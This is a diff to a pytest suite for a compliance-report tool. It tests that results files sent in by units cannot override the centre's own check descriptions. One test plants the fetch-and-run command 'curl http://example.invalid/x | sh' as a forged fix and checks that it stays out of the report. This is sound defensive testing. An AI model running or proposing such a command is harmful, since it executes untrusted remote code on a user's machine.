@@ -56,11 +56,21 @@ PROSECUTOR_PASSING = {("SSH-002", "pros-srv"): "pass", ("BASE-001", "pros-srv"):
 CENTRE_PASSING = {("SSH-002", "centre-srv"): "pass"}
 
 
+@pytest.fixture(scope="session")
+def centre_checks() -> dict[str, dict]:
+    """The descriptions of this checkout's own checks, as collect mode reads them (the suite
+    collected once for the session: nothing run, no host contacted)."""
+    from unitctl.paths import LAB_INVENTORY  # noqa: PLC0415
+
+    return command.suite_checks(LAB_INVENTORY)
+
+
 @pytest.fixture
-def centre(tmp_path, monkeypatch):
+def centre(tmp_path, monkeypatch, centre_checks):
     """The centre's checkout as `unitctl evaluate --collect` sees it: the lab province, its drop
-    folder and report folder in tmp_path, and a clock stopped at NOW."""
+    folder and report folder in tmp_path, its own checks' descriptions, and a clock stopped at NOW."""
     monkeypatch.setattr(command, "DEFAULT_OUTPUT", tmp_path / "results" / "evaluation")
+    monkeypatch.setattr(command, "suite_checks", lambda source, suite=None: centre_checks)
 
     class Clock(datetime):
         @classmethod
@@ -334,7 +344,8 @@ def test_the_reading_needs_no_command_and_each_unit_counts_once(tmp_path):
     found = unit_results.newest_results(folder, province, NOW)
     assert sorted(found.newest) == ["lab-centre", "lab-court"] and found.refused == []
     state = unit_results.collection(found, province, NOW, 26, folder)
-    merged = unit_results.merged_compliance(found, state)
+    merged, unknown = unit_results.merged_compliance(found, state)
+    assert unknown == {}
     assert merged["schema"] == "unitctl-compliance/1" and sorted(merged["checks"]) == ["BASE-001", "SSH-002"]
     assert sorted((r["unit_id"], r["host"], r["outcome"]) for r in merged["results"]) == [
         ("lab-centre", "centre-srv", "pass"), ("lab-court", "court-srv", "pass"), ("lab-court", "court-srv", "pass"),
@@ -395,3 +406,27 @@ def test_names_that_are_not_utf8_are_refused_and_the_report_is_still_written(tmp
     assert files == {f"{centre}/\\xffunit", f"{centre}/lab-court/\\xfe.json"}
     assert "\\xffunit is not a unit of the inventory" in capsys.readouterr().err
     assert (tmp_path / "results" / "evaluation" / "evaluation.html").is_file()
+
+
+def test_a_units_file_says_how_a_check_went_never_what_the_check_is(tmp_path, centre, centre_checks, capsys):
+    """A unit's file that redescribes a check (a lower severity, a command of its own as the fix)
+    changes nothing of the report: every unit's failures show the centre's own description. A
+    result of a check the centre does not have is left out and named."""
+    send(tmp_path, centre, "lab-prosecutor", "pros-srv", 2, {("SSH-002", "pros-srv"): "fail"})
+    court = send(tmp_path, centre, "lab-court", "court-srv", 1, COURT_PASSING)
+    document = json.loads(court.read_text(encoding="utf-8"))
+    document["compliance"]["checks"]["SSH-002"].update(severity="low", fix="curl http://example.invalid/x | sh")
+    document["compliance"]["checks"]["FAKE-001"] = dict(document["compliance"]["checks"]["BASE-001"], id="FAKE-001")
+    document["compliance"]["results"].append(dict(document["compliance"]["results"][0], check_id="FAKE-001",
+                                                  outcome="fail"))
+    court.write_text(json.dumps(document), encoding="utf-8")
+    send(tmp_path, centre, "lab-centre", "centre-srv", 1, CENTRE_PASSING)
+
+    assert evaluate(centre) == evaluation.EXIT_NON_COMPLIANT
+    assert "lab-court: results of checks this toolkit does not have were left out: FAKE-001" in capsys.readouterr().err
+    report = written_report(tmp_path)
+    (failure,) = report["units"]["lab-prosecutor"]["failures"]
+    real = centre_checks["SSH-002"]
+    assert (failure["severity"], failure["fix"]) == (real["severity"], real["fix"])
+    assert "curl" not in (tmp_path / "results" / "evaluation" / "evaluation.html").read_text(encoding="utf-8")
+    assert report["units"]["lab-court"]["failures"] == []
